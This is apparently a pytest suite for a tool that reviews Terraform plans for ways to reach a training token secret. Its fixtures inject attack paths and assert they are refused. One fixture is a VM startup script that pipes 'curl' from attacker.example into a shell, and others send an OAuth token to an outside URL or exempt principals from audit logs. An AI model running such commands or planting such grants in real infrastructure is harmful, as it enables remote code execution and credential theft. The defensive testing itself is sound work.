"""The review fails closed over resource types too (review.references): anything that runs as, speaks for or reads
the token's holders is a path or an UNKNOWN, in both plan forms; every row of the table of inert references has a
case; benign plans (another service account running services, the trainer with logging roles) pass. Also the audit
trail of token reads (HFG012) and what jobs train from (mirror writers, the training image, HFG013)."""
from __future__ import annotations

import copy
import json

import pytest

from review.plan import load
from review.references import INERT, scan
from review.report import review
from stacks.config import parse_settings
from stacks.errors import ConfigError
from tests.test_review_attacks import EVE, _plan, _ref_sa, _sa, _secret, add

TRAINER = "hfg-sbx-trainer@acme-hfgate-sbx.iam.gserviceaccount.com"
SUBMITTER = "hfg-sbx-submitter@acme-hfgate-sbx.iam.gserviceaccount.com"


def _review(data, tmp_path, form="synth"):
    plan, _ = _plan(data, tmp_path / form, form, None, None)
    return review(plan), plan


def vm(d, email=None):
    return add(d, "google_compute_instance", "vm", {
        "name": "vm", "zone": "us-central1-a", "machine_type": "e2-small",
        "metadata_startup_script": "curl -s https://attacker.example/run | sh",
        "service_account": [{"email": email or _ref_sa(d, "trainer", "email"), "scopes": ["cloud-platform"]}]})


@pytest.mark.parametrize("form", ["synth", "plan"])
@pytest.mark.parametrize("how", ["reference", "literal"])
def test_a_vm_running_as_the_trainer_is_a_path_naming_what_controls_it(plans, tmp_path, form, how):
    data = vm(copy.deepcopy(plans["sandbox"]), None if how == "reference" else TRAINER)
    rep, _ = _review(data, tmp_path, form)
    assert rep["ok"] is False
    if form == "synth":
        assert "resource:google_compute_instance.vm" in rep["unexpected_readers"]
        row = next(r for r in rep["token_readers"] if r["principal"] == "resource:google_compute_instance.vm")
        assert row["kind"] == "runs-as" and "trainer" in row["how"] and "attacker.example" in row["how"]
    else:   # the plan form shows the reference at the block level: still refused (a path or an UNKNOWN)
        assert "resource:google_compute_instance.vm" in rep["unexpected_readers"] or \
            "google_compute_instance.vm" in rep["unresolved"]


@pytest.mark.parametrize("form", ["synth", "plan"])
@pytest.mark.parametrize("attr", ["email", "unique_id", "member", "name"])
def test_a_made_up_resource_type_naming_the_trainer_fails_as_unknown(plans, tmp_path, form, attr):
    d = copy.deepcopy(plans["sandbox"])
    add(d, "google_future_compute_thing", "x", {"name": "x", "runner": _ref_sa(d, "trainer", attr)})
    rep, _ = _review(d, tmp_path, form)
    assert rep["ok"] is False and "google_future_compute_thing.x" in rep["unresolved"]
    entry = next(u for u in rep["unknowns"] if u["address"] == "google_future_compute_thing.x")
    assert "trainer" in entry["why"] and "review.references" in entry["why"]


def test_the_submitter_literal_in_an_unknown_nested_block_fails(plans, tmp_path):
    d = add(copy.deepcopy(plans["sandbox"]), "google_some_new_service_runner", "r",
            {"name": "r", "settings": [{"identity": {"principal": f"serviceAccount:{SUBMITTER}"}}]})
    rep, _ = _review(d, tmp_path)
    assert "google_some_new_service_runner.r" in rep["unresolved"]


KNOWN = {
    "cloud scheduler sends the trainer's OAuth token to a URL": (
        lambda d: add(d, "google_cloud_scheduler_job", "j", {"name": "j", "http_target": [{
            "uri": "https://collector.example/hook",
            "oauth_token": [{"service_account_email": _ref_sa(d, "trainer", "email")}]}]}),
        "resource:google_cloud_scheduler_job.j", "collector.example"),
    "a build trigger runs as the submitter from a repository": (
        lambda d: add(d, "google_cloudbuild_trigger", "t", {"name": "t", "filename": "cloudbuild.yaml",
                                                             "service_account": _ref_sa(d, "submitter", "id"),
                                                             "github": [{"owner": "someone", "name": "repo"}]}),
        "resource:google_cloudbuild_trigger.t", "someone"),
    "a Cloud Run job as the trainer": (
        lambda d: add(d, "google_cloud_run_v2_job", "j", {"name": "j", "location": "us-central1", "template": {
            "template": {"service_account": TRAINER, "containers": [{"image": "docker.io/anyone/anything:latest"}]}}}),
        "resource:google_cloud_run_v2_job.j", "docker.io/anyone"),
    "an access token of the trainer minted into state": (
        lambda d: add(d, "google_service_account_access_token", "t", {
            "target_service_account": _ref_sa(d, "trainer", "email"), "scopes": ["cloud-platform"]}, "data"),
        "resource:data.google_service_account_access_token.t", "state"),
    "a data source reading the token, and the output built from it": (
        lambda d: add(add(d, "google_secret_manager_secret_version", "v", {
            "secret": f"${{google_secret_manager_secret.{_secret(d)}.id}}"}, "data"), "output", "leak",
            {"value": "${data.google_secret_manager_secret_version.v.secret_data}", "sensitive": True}, "output")
        and d["output"].update(leak=d["output"].pop("output")["leak"]) or d,
        "resource:output.leak", "state"),
    "a Cloud Run service mounting the token secret by its short id": (
        lambda d: add(d, "google_cloud_run_v2_service", "s", {"name": "s", "location": "us-central1", "template": {
            "containers": [{"image": "x", "env": [{"name": "T", "value_source": {"secret_key_ref": {
                "secret": "hfg-sbx-hf-token", "version": "latest"}}}]}]}}),
        "resource:google_cloud_run_v2_service.s", "token secret"),
}


@pytest.mark.parametrize("case", sorted(KNOWN))
def test_known_types_that_run_as_or_read_the_token_are_paths(plans, tmp_path, case):
    mutate, principal, shown = KNOWN[case]
    rep, _ = _review(mutate(copy.deepcopy(plans["sandbox"])), tmp_path)
    assert rep["ok"] is False and principal in rep["unexpected_readers"], (rep["unexpected_readers"],
                                                                          rep["unresolved"])
    rows = [r for r in rep["token_readers"] if r["principal"] == principal]
    assert rows and any(shown in r["how"] or shown in str(r["via"]) for r in rows), rows


def test_the_data_source_reading_the_token_is_named_too(plans, tmp_path):
    mutate = KNOWN["a data source reading the token, and the output built from it"][0]
    rep, _ = _review(mutate(copy.deepcopy(plans["sandbox"])), tmp_path)
    assert "resource:data.google_secret_manager_secret_version.v" in rep["unexpected_readers"]


def test_a_benign_plan_passes(plans, tmp_path):
    """Another service account runs a service (with its own Workload Identity binding), the trainer gets logging
    and monitoring roles: nothing reaches the token, the review passes."""
    d = copy.deepcopy(plans["sandbox"])
    add(d, "google_service_account", "web", {"account_id": "web-frontend", "project": "acme-hfgate-sbx"})
    add(d, "google_cloud_run_v2_service", "web", {"name": "web", "location": "us-central1", "template": {
        "service_account": "${google_service_account.web.email}", "containers": [{"image": "x"}]}})
    add(d, "google_service_account_iam_member", "web-wif", {
        "service_account_id": "${google_service_account.web.name}", "role": "roles/iam.workloadIdentityUser",
        "member": "principalSet://iam.googleapis.com/projects/1/locations/global/workloadIdentityPools/gh/"
                  "attribute.repository/acme/web"})
    for role in ("roles/monitoring.metricWriter", "roles/logging.viewer"):
        add(d, "google_project_iam_member", role.split("/")[1].replace(".", "-"), {
            "project": "acme-hfgate-sbx", "role": role, "member": _ref_sa(d, "trainer", "member")})
    for form in ("synth", "plan"):
        rep, _ = _review(copy.deepcopy(d), tmp_path, form)
        assert rep["ok"], (form, rep["unexpected_readers"], rep["unresolved"],
                           [p["id"] for p in rep["policies"] if not p["passed"]])


# One case per row of INERT: the reference the row explains is present, and the scan files it as inert.
def _row_cases(d):
    tr = _ref_sa(d, "trainer", "member")
    sec = f"${{google_secret_manager_secret.{_secret(d)}.id}}"
    return {
        0: lambda: add(d, "google_storage_bucket_iam_member", "i0", {"bucket": "other", "role":
                                                                    "roles/storage.objectViewer", "member": tr}),
        1: lambda: add(d, "google_pubsub_topic_iam_binding", "i1", {"topic": "t", "role": "roles/pubsub.viewer",
                                                                   "members": [tr]}),
        2: lambda: add(d, "google_pubsub_topic_iam_policy", "i2", {"topic": "t", "policy_data": json.dumps(
            {"bindings": [{"role": "roles/pubsub.viewer", "members": [f"serviceAccount:{TRAINER}"]}]})}),
        3: lambda: add(d, "google_service_account_iam_member", "i3", {
            "service_account_id": _ref_sa(d, "trainer", "name"), "role": "roles/iam.serviceAccountViewer",
            "member": EVE}),
        4: lambda: add(d, "google_secret_manager_secret_iam_member", "i4", {
            "secret_id": sec, "role": "roles/secretmanager.viewer", "member": EVE}),
        5: lambda: add(d, "google_folder_iam_audit_config", "i5", {"folder": "folders/1", "service": "storage"
                                                                  ".googleapis.com", "audit_log_config": [{
                                                                      "log_type": "DATA_READ",
                                                                      "exempted_members": [tr]}]}),
        6: lambda: add(d, "google_iam_policy", "i6", {"binding": [{"role": "roles/pubsub.viewer",
                                                                   "members": [tr]}]}, "data"),
        7: lambda: add(d, "google_iam_policy", "i7", {"audit_config": [{"service": "storage.googleapis.com",
                                                                        "audit_log_configs": [{
                                                                            "log_type": "DATA_READ",
                                                                            "exempted_members": [tr]}]}]}, "data"),
        8: lambda: add(d, "google_service_account", "i8", {"account_id": TRAINER}, "data"),
        9: lambda: add(d, "google_secret_manager_secret", "i9", {"secret_id": "hfg-sbx-hf-token"}, "data"),
        10: lambda: add(d, "google_secret_manager_secret_version", "i10", {"secret": sec, "secret_data_wo": "x",
                                                                         "secret_data_wo_version": "1"}),
        11: lambda: d["output"].update(i11={"value": _ref_sa(d, "trainer", "email")}),
        12: lambda: d.setdefault("locals", {}).update(i12=TRAINER),
        13: lambda: add(d, "google_access_context_manager_service_perimeter", "i13", {
            "name": "accessPolicies/1/servicePerimeters/p", "parent": "accessPolicies/1", "title": "p",
            "status": {"ingress_policies": [{"ingress_from": {"identities": [f"serviceAccount:{TRAINER}"]}}]}}),
        14: lambda: add(d, "google_pubsub_topic", "i13", {"name": "i13",
                                                          "labels": {"owner": _ref_sa(d, "trainer", "email")}}),
        15: lambda: add(d, "google_secret_manager_secret", "i14", {"secret_id": "other", "replication": [
            {"auto": [{}]}], "annotations": {"about": _ref_sa(d, "trainer", "email")}}),
        16: lambda: add(d, "google_pubsub_topic", "i15", {"name": "i15", "description": f"read by {TRAINER}"}),
        17: lambda: add(d, "google_monitoring_dashboard_x", "i16", {"display_name": f"trainer {TRAINER}"}),
        18: lambda: add(d, "google_pubsub_topic", "i17", {"name": "i17", "depends_on": [
            f"google_service_account.{_sa(d, 'trainer')}"]}),
        19: lambda: deny_policy(d),
        20: lambda: add(d, "google_project_iam_member_remove", "i20", {
            "project": "acme-hfgate-sbx", "role": "roles/editor", "member": tr}),
        21: lambda: token_log_sink(d),
        22: lambda: add(d, "google_logging_project_exclusion", "i22", {"name": "i22", "filter": TOKEN_FILTER}),
        23: lambda: add(d, "google_logging_metric", "i23", {"name": "token-reads", "filter": TOKEN_FILTER,
                                                            "metric_descriptor": [{"metric_kind": "DELTA",
                                                                                   "value_type": "INT64"}]}),
        24: lambda: token_read_alert(d),
    }


TOKEN_FILTER = ('protoPayload.serviceName="secretmanager.googleapis.com" AND protoPayload.resourceName:'
                '"projects/acme-hfgate-sbx/secrets/hfg-sbx-hf-token"')


def deny_policy(d):
    """Deny the trainer everything but reading the token (deny only ever removes permissions)."""
    return add(d, "google_iam_deny_policy", "deny", {
        "parent": "cloudresourcemanager.googleapis.com%2Fprojects%2Facme-hfgate-sbx", "name": "trainer-deny",
        "rules": [{"deny_rule": [{
            "denied_principals": [f"principal://iam.googleapis.com/projects/-/serviceAccounts/{TRAINER}"],
            "denied_permissions": ["iam.googleapis.com/serviceAccounts.*"],
            "denial_condition": [{"expression": "!resource.name.endsWith('secrets/hfg-sbx-hf-token')"}],
            "exception_principals": [f"principal://iam.googleapis.com/projects/-/serviceAccounts/{SUBMITTER}"]}]}]})


def token_read_alert(d):
    """Page someone on every read of the token (a log-match alert: the filter names the secret)."""
    return add(d, "google_monitoring_alert_policy", "reads", {
        "display_name": "token read", "combiner": "OR", "alert_strategy": [{"notification_rate_limit": [{
            "period": "300s"}]}],
        "conditions": [{"display_name": "read", "condition_matched_log": [{"filter": TOKEN_FILTER}]}]})


def token_log_sink(d):
    """Route the token's audit entries to a bucket (entries name the secret; they never hold its value)."""
    return add(d, "google_logging_project_sink", "reads", {
        "name": "token-reads", "destination": "storage.googleapis.com/acme-audit", "filter": TOKEN_FILTER,
        "exclusions": [{"name": "not-the-trainer", "filter": f'protoPayload.authenticationInfo.principalEmail='
                                                            f'"{TRAINER}"'}]})


@pytest.mark.parametrize("row", range(len(INERT)))
def test_each_inert_row_explains_a_reference_that_confers_nothing(plans, tmp_path, row):
    d = copy.deepcopy(plans["sandbox"])
    cases = _row_cases(d)
    assert set(cases) == set(range(len(INERT))), "every row of review.references.INERT needs a case here"
    cases[row]()
    path = tmp_path / "s" / "cdk.tf.json"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps(d))
    result = scan(load(path))
    why = INERT[row][3]
    assert any(x["why"] == why for x in result["inert"]), (row, result)
    assert result["paths"] == [] and result["unknowns"] == [], result


def test_an_unknown_top_level_block_is_unknown(plans, tmp_path):
    d = copy.deepcopy(plans["sandbox"])
    d["future_block"] = {"x": {"runs_as": TRAINER}}
    rep, _ = _review(d, tmp_path)
    assert "future_block" in rep["unresolved"]


# Audit trail --------------------------------------------------------------------------------------------------------
def _audit(d, name, service, log_type="DATA_READ", exempted=None, rtype="google_project_iam_audit_config"):
    cfg = {"log_type": log_type}
    if exempted:
        cfg["exempted_members"] = exempted
    return add(d, rtype, name, {"project": "acme-hfgate-sbx", "folder": "folders/1", "service": service,
                                "audit_log_config": [cfg]})


AUDIT = {
    "a principal exempted from Secret Manager's data-access logs": (
        lambda d: _audit(d, "x", "allServices", exempted=[EVE]), EVE),
    "the trainer exempted at folder level": (
        lambda d: _audit(d, "x", "secretmanager.googleapis.com", exempted=[f"serviceAccount:{TRAINER}"],
                         rtype="google_folder_iam_audit_config"), TRAINER),
    "Secret Manager's config replaced by one without DATA_READ": (
        lambda d: d["resource"]["google_project_iam_audit_config"].clear() or
        _audit(d, "x", "secretmanager.googleapis.com", log_type="ADMIN_READ"), "without DATA_READ"),
    "no audit config at all": (
        lambda d: d["resource"].pop("google_project_iam_audit_config") and d, "off by default"),
    "a second authoritative config for Secret Manager": (
        lambda d: _audit(d, "x", "secretmanager.googleapis.com"), "last applied wins"),
}


@pytest.mark.parametrize("case", sorted(AUDIT))
def test_token_reads_that_would_not_be_logged_fail_hfg012(plans, tmp_path, case):
    mutate, shown = AUDIT[case]
    rep, _ = _review(mutate(copy.deepcopy(plans["sandbox"])), tmp_path)
    hfg012 = next(p for p in rep["policies"] if p["id"] == "HFG012")
    assert rep["ok"] is False and not hfg012["passed"]
    assert any(shown in v["detail"] for v in hfg012["violations"]), hfg012["violations"]


def test_the_shipped_stacks_log_every_token_read_and_token_minting_once_per_project(plans):
    """Every project holding a token secret logs its reads (Secret Manager DATA_READ) and the minting of its
    accounts' tokens (iam.googleapis.com, which enables IAM Credentials' Data Access logs): one config per (project,
    service), declared by the project (never inside a team's scope, whose removal would take it away)."""
    for env in ("sandbox", "prod", "local", "dev", "local-teams"):
        res = plans[env]["resource"]
        configs = list(res["google_project_iam_audit_config"].values())
        holders = {v["project"] for v in res["google_secret_manager_secret"].values()}
        assert len(holders) == (2 if env in ("dev", "local-teams") else 1)
        by = {(c["project"], c["service"]): c for c in configs}
        assert len(by) == len(configs), "one audit config per (project, service)"
        for project in holders:
            reads = by[(project, "secretmanager.googleapis.com")]["audit_log_config"]
            minting = by[(project, "iam.googleapis.com")]["audit_log_config"]
            assert {"log_type": "DATA_READ"} in reads
            assert {"log_type": "ADMIN_READ"} in minting and {"log_type": "DATA_READ"} in minting
            assert not any(c.get("exempted_members") for c in reads + minting)
        assert not any("/team-" in c["//"]["metadata"]["path"] for c in configs)


def test_a_team_project_without_the_token_minting_audit_fails_hfg012_naming_it(plans, tmp_path):
    d = copy.deepcopy(plans["dev"])
    audits = d["resource"]["google_project_iam_audit_config"]
    (key,) = [k for k, v in audits.items() if v["project"] == "acme-hfgate-dev-vision"
              and v["service"] == "iam.googleapis.com"]
    del audits[key]
    rep, _ = _review(d, tmp_path)
    hfg012 = next(p for p in rep["policies"] if p["id"] == "HFG012")
    assert rep["ok"] is False and not hfg012["passed"]
    (hit,) = hfg012["violations"]
    assert "acme-hfgate-dev-vision" in hit["detail"] and "iam.googleapis.com" in hit["detail"]


# What jobs train from ---------------------------------------------------------------------------------------------
def test_a_writer_of_the_mirror_bucket_other_than_the_submitter_is_a_path(plans, tmp_path):
    d = copy.deepcopy(plans["sandbox"])
    mirror = next(k for k in d["resource"]["google_storage_bucket"] if k.startswith("mirror"))
    add(d, "google_storage_bucket_iam_member", "w", {"bucket": f"${{google_storage_bucket.{mirror}.name}}",
                                                     "role": "roles/storage.objectCreator", "member": EVE})
    rep, _ = _review(d, tmp_path)
    assert EVE in rep["unexpected_readers"]
    assert any("mirror bucket" in r["how"] for r in rep["token_readers"] if r["principal"] == EVE)


def test_a_writer_of_the_artifacts_bucket_other_than_the_trainer_is_a_path(plans, tmp_path):
    d = copy.deepcopy(plans["sandbox"])
    artifacts = next(k for k in d["resource"]["google_storage_bucket"] if k.startswith("artifacts"))
    add(d, "google_storage_bucket_iam_member", "w", {"bucket": f"${{google_storage_bucket.{artifacts}.name}}",
                                                     "role": "roles/storage.objectUser", "member": EVE})
    rep, _ = _review(d, tmp_path)
    assert EVE in rep["unexpected_readers"]


@pytest.mark.parametrize("image,ok", [
    ("docker.io/huggingface/trl:latest", False),
    ("us-docker.pkg.dev/someone-else/repo/trl:1.0", False),
    ("docker.io/huggingface/trl@sha256:" + "a" * 64, True),
    ("us-central1-docker.pkg.dev/acme-hfgate-sbx/training/trl:1.16", True),
    ("us-docker.pkg.dev/deeplearning-platform-release/gcr.io/huggingface-pytorch-training:x", True),
])
def test_the_training_image_must_be_trusted_or_pinned(plans, tmp_path, image, ok):
    d = copy.deepcopy(plans["sandbox"])
    d["output"]["training_image"]["value"] = image
    rep, _ = _review(d, tmp_path)
    hfg013 = next(p for p in rep["policies"] if p["id"] == "HFG013")
    assert hfg013["passed"] is ok, hfg013


def test_config_refuses_an_untrusted_mutable_image_at_synth():
    raw = {"project_id": "acme-hfgate-sbx", "region": "us-central1", "prefix": "hfg-sbx",
           "training_image": "docker.io/huggingface/trl:latest"}
    with pytest.raises(ConfigError) as err:
        parse_settings("sandbox", raw)
    assert "training_image" in str(err.value) and "sha256" in str(err.value)
    assert parse_settings("sandbox", {**raw, "training_image": raw["training_image"].split(":")[0] + "@sha256:" + "0" * 64})
    assert parse_settings("sandbox", {**raw, "trusted_image_registries": ["docker.io/huggingface/"]})
    with pytest.raises(ConfigError):
        parse_settings("sandbox", {**raw, "trusted_image_registries": ["not a registry"]})


# Plans that name the trainer or the token and confer nothing: the review passes them (each is a row of INERT).
HARMLESS = {
    "an IAM deny policy naming the trainer and the token": deny_policy,
    "a grant of the trainer removed": lambda d: add(d, "google_project_iam_member_remove", "rm", {
        "project": "acme-hfgate-sbx", "role": "roles/editor", "member": f"serviceAccount:{TRAINER}"}),
    "a log sink whose filter names the token secret": token_log_sink,
    "an exclusion whose filter names the token secret": lambda d: add(d, "google_logging_project_exclusion", "x", {
        "name": "x", "filter": TOKEN_FILTER + ' AND severity<"INFO"'}),
    "an alert on every read of the token": token_read_alert,
    "a log-based metric counting the token's reads": lambda d: add(d, "google_logging_metric", "m", {
        "name": "token-reads", "filter": TOKEN_FILTER,
        "metric_descriptor": [{"metric_kind": "DELTA", "value_type": "INT64"}]}),
}


@pytest.mark.parametrize("form", ["synth", "plan"])
@pytest.mark.parametrize("case", sorted(HARMLESS))
def test_plans_that_name_the_token_holders_without_conferring_anything_pass(plans, tmp_path, case, form):
    rep, _ = _review(HARMLESS[case](copy.deepcopy(plans["sandbox"])), tmp_path, form)
    assert not (rep["unexpected_readers"] or rep["unresolved"] or rep["write_token"]["unexpected_readers"]), rep
    assert [p["id"] for p in rep["policies"] if not p["passed"]] == []
    assert rep["references"]["inert"], "the reference is listed as inert, with its reason"
